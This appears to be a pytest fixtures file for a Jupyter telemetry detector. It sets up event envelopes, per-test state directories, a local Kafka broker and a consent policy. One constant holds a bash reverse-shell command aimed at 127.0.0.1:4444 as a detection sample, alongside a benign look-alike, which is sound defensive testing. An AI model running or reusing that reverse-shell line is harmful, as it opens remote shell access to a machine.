"""Fixtures: events as the core records them, and the shipped pack compiled once."""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator
from typing import Any

import orjson
import pytest

KERNEL = "https://telemetry.jupyter.org/schemas/events/kernel/code-executed"
_ids = itertools.count(1)


@pytest.fixture
def event() -> Callable[..., dict[str, Any]]:
    """An event with an envelope: ``event(code=..., schema=...)``."""
    def make(schema: str = KERNEL, timestamp: str = "2026-12-07T10:00:00Z",
             **fields: Any) -> dict[str, Any]:
        base = {"kernel_id": "k1", "status": "ok"} if schema == KERNEL else {}
        return {"__timestamp__": timestamp, "__schema__": schema, "__schema_version__": 1,
                "__metadata_version__": 1, "__event_id__": f"e{next(_ids)}",
                **base, **fields}
    return make


@pytest.fixture(autouse=True)
def _private_state(tmp_path_factory: Any, monkeypatch: Any) -> None:
    # Sinks keep spools and the detect sink its novelty state under $XDG_STATE_HOME by
    # default: each test its own, never ~/.local.
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path_factory.mktemp("state")))


def as_json(events: list[dict[str, Any]]) -> list[bytes]:
    return [orjson.dumps(e) for e in events]


@pytest.fixture(scope="session")
def pack() -> Any:
    from telemetry_detect import Detector

    detector = Detector.shipped()
    yield detector
    detector.close()


@pytest.fixture(scope="session")
def kafka() -> Iterator[Any]:
    """A real Kafka broker (Tansu) on 127.0.0.1, shared by the tests that need one."""
    from telemetry_core.testing.servers import kafka_server

    with kafka_server() as server:
        yield server


ALERT = "https://telemetry.jupyter.org/schemas/events/detect/alert"
PII = "user-identifiable-information"
#: A policy that keeps kernel code and users (detection needs the code) and alerts.
POLICY = {KERNEL: {"allowed_categories": [PII], "consent": "required"},
          ALERT: {"allowed_categories": [PII], "consent": "required"}}
REVERSE_SHELL = "cmd = 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'  # a string, never run"
LOOK_ALIKE = "print('bash reads /dev/tty, not a socket')"


def record_code(log: Any, codes: list[str], user: str = "ana",
                start: Any = None) -> list[dict[str, Any]]:
    """Record one kernel-code event per item of ``codes``; the events as recorded."""
    from datetime import datetime, timedelta, timezone

    start = start or datetime(2026, 12, 7, 10, 0, tzinfo=timezone.utc)
    recorded = []
    for n, code in enumerate(codes):
        event = log.record_event(KERNEL, 1, {"kernel_id": "k1", "status": "ok",
                                             "code": code, "user": user},
                                 timestamp_override=start + timedelta(minutes=n))
        assert event is not None
        recorded.append(event)
    return recorded
